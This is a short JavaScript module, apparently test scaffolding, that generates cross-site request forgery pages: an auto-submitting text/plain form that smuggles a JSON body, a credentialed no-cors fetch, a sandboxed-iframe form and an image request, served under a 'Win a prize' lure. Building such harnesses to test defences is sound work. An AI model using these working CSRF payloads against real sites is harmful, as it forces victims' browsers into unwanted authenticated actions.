// The attacker's pages: what a browser can be made to send without asking anybody.

const quote = text => text.replace(/[&<>"']/g, sign => `&#${sign.charCodeAt(0)};`);
const script = value => JSON.stringify(value).replaceAll('<', '\\u003c');

// A form cannot say JSON, but as `text/plain` it can write it: the `=` between name and value has to end up
// inside some string.
function form(target, body) {
    const [name, value] = body ? split(body) : ['x', ''];
    return `<form method="post" enctype="text/plain" action="${quote(target)}">
        <input type="hidden" name="${quote(name)}" value="${quote(value)}"></form>
        <script>document.forms[0].submit()</script>`;
}

function split(body) {
    const end = body.lastIndexOf('}');
    return [`${body.slice(0, end)}, "padding": "`, '"}'];
}

/** Each attack by name: the page's body for a target and what to send there. */
export const ATTACKS = {
    'a form': form,
    'a fetch without CORS': (target, body) => `<script>
        fetch(${script(target)}, { method: 'POST', mode: 'no-cors', credentials: 'include',
            headers: { 'Content-Type': 'text/plain' }, body: ${script(body)} });
        </script>`,
    'a form in a sandboxed frame': (target, body) => `<iframe sandbox="allow-scripts allow-forms"
        srcdoc="${quote(form(target, body))}"></iframe>`,
    'an image': target => `<img src="${quote(target)}" alt="">`,
};

/** The attacker's site: `?kind=..&target=..&body=..`. */
export function attackPage({ pathname, searchParams }) {
    if (pathname !== '/') {
        return undefined;
    }
    const [kind, target, body] = ['kind', 'target', 'body'].map(name => searchParams.get(name));
    return { body: `<!DOCTYPE html><title>Win a prize</title>${ATTACKS[kind](target, body)}` };
}
